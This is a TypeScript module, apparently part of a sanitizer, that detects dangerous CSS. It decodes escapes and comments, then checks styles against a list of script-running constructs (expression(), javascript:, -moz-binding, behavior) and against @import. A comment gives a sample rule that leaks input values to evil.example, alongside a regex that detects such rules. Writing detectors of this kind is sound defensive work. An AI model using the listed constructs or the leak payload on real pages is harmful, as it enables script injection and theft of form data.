// Does a style run script? CSS is read with its comments taken out and its escapes undone (CSS Syntax 3 §4.3.7), which
// is how the browsers that ran script from styles read it.

import { work } from '../../work.ts'

const LOOK_MAX = 512
/** What a character of a style takes, and one of a style with comments or escapes. */
const CHARACTER_WORK = 4
const ESCAPED_WORK = 20
const ESCAPE_DIGITS_MAX = 6

const RUNNING: readonly string[] = [
  'expression(',
  'expression (',
  'javascript:',
  'vbscript:',
  '-moz-binding',
  'behavior:',
  'behaviour:',
  'binding:url(',
  'binding: url(',
]

export const styleRuns = (style: string): boolean => {
  const lower = style.slice(0, LOOK_MAX).toLowerCase()
  work.left -= CHARACTER_WORK * lower.length
  const plain = lower.includes('\\') || lower.includes('/*') ? plainCss(lower) : lower
  return RUNNING.some((mark) => plain.includes(mark))
}

/** A sheet that loads another one, by an at-rule that may be escaped too. */
export const imports = (style: string): boolean => {
  const lower = style.slice(0, LOOK_MAX).toLowerCase()
  return lower.includes('@import') || (lower.includes('\\') && plainCss(lower).includes('@import'))
}

/** A sheet that asks a stranger for a picture by what a field holds: `input[value^=a]{background:url(//evil.example/?a)}`. */
export const leaksValues = (style: string): boolean =>
  /\[\s{0,2}value\s{0,2}[\^$*]?=[^\]]{1,40}\][^{}]{0,40}\{[^}]{0,80}url\(\s{0,2}["']?(?:https?:)?\/\//i.test(
    style.slice(0, LOOK_MAX),
  )

const plainCss = (style: string): string => {
  work.left -= ESCAPED_WORK * style.length
  let out = ''
  for (let at = 0; at < style.length;) {
    const code = style.charCodeAt(at)
    if (code === 47 && style.charCodeAt(at + 1) === 42) {
      const close = style.indexOf('*/', at + 2)
      if (close < 0) return out
      at = close + 2
    } else if (code === 92) {
      at = escaped(style, at)
      out += unescaped
    } else {
      out += style.charAt(at)
      at++
    }
  }
  return out
}

/** What the escape that was read last stands for. */
let unescaped = ''

const escaped = (style: string, backslash: number): number => {
  let at = backslash + 1
  let value = 0
  while (at <= backslash + ESCAPE_DIGITS_MAX) {
    const digit = hexOf(style.charCodeAt(at))
    if (digit < 0) break
    value = value * 16 + digit
    at++
  }
  if (at === backslash + 1) {
    unescaped = style.charAt(at)
    return at + 1
  }
  unescaped = value > 0 && value <= 0x10ffff ? String.fromCodePoint(value).toLowerCase() : ''
  // One white space ends an escape and belongs to it.
  return style.charCodeAt(at) <= 32 ? at + 1 : at
}

const hexOf = (code: number): number =>
  code >= 48 && code <= 57 ? code - 48 : code >= 97 && code <= 102 ? code - 87 : -1
